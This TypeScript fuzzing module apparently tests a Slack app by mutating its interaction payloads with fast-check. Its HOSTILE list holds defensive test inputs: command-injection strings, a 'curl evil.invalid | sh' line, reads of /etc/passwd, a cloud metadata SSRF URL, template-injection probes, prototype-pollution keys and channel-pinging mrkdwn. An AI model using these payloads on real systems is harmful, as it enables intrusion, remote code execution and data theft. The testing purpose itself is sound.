import fc from 'fast-check'

/** What is done to one place of a payload; `at` counts its places, and is taken round. */
export type Mutation = { at: number } & (
  | { kind: 'drop' }
  | { kind: 'double' }
  | { kind: 'put'; value: unknown }
  | { kind: 'bury'; depth: number }
  | { kind: 'swap'; with: number }
  | { kind: 'addKey'; key: string; value: unknown }
)

/** Mrkdwn that would call a whole channel, or lead elsewhere, if it were shown as it is. */
export const CALLS = ['<!channel>', '<!here|x>', '<https://evil.invalid|Click here>', '<@U0EVIL>'] as const

const HOSTILE = [
  ...CALLS,
  '',
  ' ',
  '\u0000',
  '../../etc/passwd',
  '-oProxyCommand=touch /tmp/owned',
  '$(touch /tmp/owned)',
  '`touch /tmp/owned`',
  '; return 200 "owned"; }',
  '%(ENV_HOME)s',
  '{{7*7}}${7*7}<%= 7*7 %>',
  'web: curl evil.invalid | sh\n---\n!!js/function "x"',
  '__proto__',
  'constructor',
  '\uD800',
  '\u202Egpj.exe\u2028\n> quoted',
  '𠮷'.repeat(300),
  'ﷺ'.repeat(500),
  'a'.repeat(70_000),
  'http://169.254.169.254/latest/meta-data/',
  'file:///etc/passwd',
  '["ready-one","site-x",0,"1"]',
  '[]',
  '{}',
  'null',
  'NaN',
  '1e999',
  '-1',
  'ready-one',
  'of-chie',
  'U0AKI',
  'U0CHIE',
  'C0ELSEWHERE',
  '2026-13-45',
  '9999-12-31',
  'ssl_check',
] as const

/** Characters that have a meaning somewhere, or none anywhere. */
export const odd = fc.constantFrom(...'aZ0 \t\n\r\0\u007F\u0085\uFEFF\uD83D\uDE00é<>&|`*_~"\'\\/{}[]()$#@!%;:,.-=+')

const value = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom<unknown>(...HOSTILE) },
  {
    weight: 2,
    arbitrary: fc.constantFrom<unknown>(null, true, false, 0, -1, 9e15, 1e308, [], {}, [[]], [null], { value: {} }),
  },
  { weight: 1, arbitrary: fc.string({ unit: odd, maxLength: 40 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
)

const key = fc.constantFrom(
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'ssl_check',
  'payload',
  'type',
  'view',
  '',
  'é',
)

const at = fc.nat(100_000)

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  { weight: 3, arbitrary: fc.record({ at, kind: fc.constant('drop' as const) }) },
  { weight: 1, arbitrary: fc.record({ at, kind: fc.constant('double' as const) }) },
  { weight: 6, arbitrary: fc.record({ at, kind: fc.constant('put' as const), value }) },
  {
    weight: 1,
    arbitrary: fc.record({ at, kind: fc.constant('bury' as const), depth: fc.constantFrom(10, 100, 400) }),
  },
  { weight: 2, arbitrary: fc.record({ at, kind: fc.constant('swap' as const), with: at }) },
  {
    weight: 2,
    arbitrary: fc.record({ at, kind: fc.constant('addKey' as const), key, value }),
  },
)

export const mutations = fc.array(mutation, { maxLength: 4 })

/** A place in a payload. */
interface Spot {
  holder: Record<string, unknown>
  key: string
}

/** A copy of the payload with all of that done to it. */
export function mutated(payload: unknown, all: readonly Mutation[]): unknown {
  const root = { payload: structuredClone(payload) }
  for (const mutation of all) mutate(root, mutation)
  return root.payload
}

function mutate(root: Record<string, unknown>, mutation: Mutation): void {
  const spots = spotsIn(root)
  const spot = spots[mutation.at % spots.length]
  if (spot === undefined) return
  const { holder, key } = spot
  const value = holder[key]
  const inside = jsonIn(value)
  if (inside !== undefined && mutation.at % 4 > 0) {
    const box = { inside }
    mutate(box, { ...mutation, at: Math.floor(mutation.at / 4) })
    holder[key] = JSON.stringify(box.inside)
    return
  }
  switch (mutation.kind) {
    case 'drop':
      delete holder[key]
      break
    case 'double':
      holder[key] = [value, structuredClone(value)].flat()
      break
    case 'put':
      holder[key] = structuredClone(mutation.value)
      break
    case 'bury':
      holder[key] = buried(value, mutation.depth)
      break
    case 'swap': {
      const other = spots[mutation.with % spots.length]
      if (other !== undefined) holder[key] = structuredClone(other.holder[other.key])
      break
    }
    case 'addKey':
      if (isHolder(value)) define(value, mutation.key, structuredClone(mutation.value))
      break
  }
}

/** Of which the app reads nothing, and which would take most mutations. */
const UNREAD = new Set(['blocks', 'message'])

function spotsIn(root: Record<string, unknown>): Spot[] {
  const spots: Spot[] = []
  const holders = [root]
  for (const holder of holders) {
    for (const [key, value] of Object.entries(holder)) {
      spots.push({ holder, key })
      if (isHolder(value) && !UNREAD.has(key)) holders.push(value)
    }
  }
  return spots
}

function isHolder(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null
}

/** What the app itself has written down as JSON: buttons' values, a form's `private_metadata`. */
function jsonIn(value: unknown): unknown {
  if (typeof value !== 'string' || !/^[[{]/.test(value)) return undefined
  try {
    return JSON.parse(value)
  } catch {
    return undefined
  }
}

function buried(value: unknown, depth: number): unknown {
  let inside = value
  for (let level = 0; level < depth; level++) inside = level % 2 === 0 ? [inside] : { a: inside }
  return inside
}

/** As JSON.parse does it: `__proto__` becomes a key like any other. */
function define(holder: object, key: string, value: unknown): void {
  Object.defineProperty(holder, key, { value, enumerable: true, configurable: true, writable: true })
}
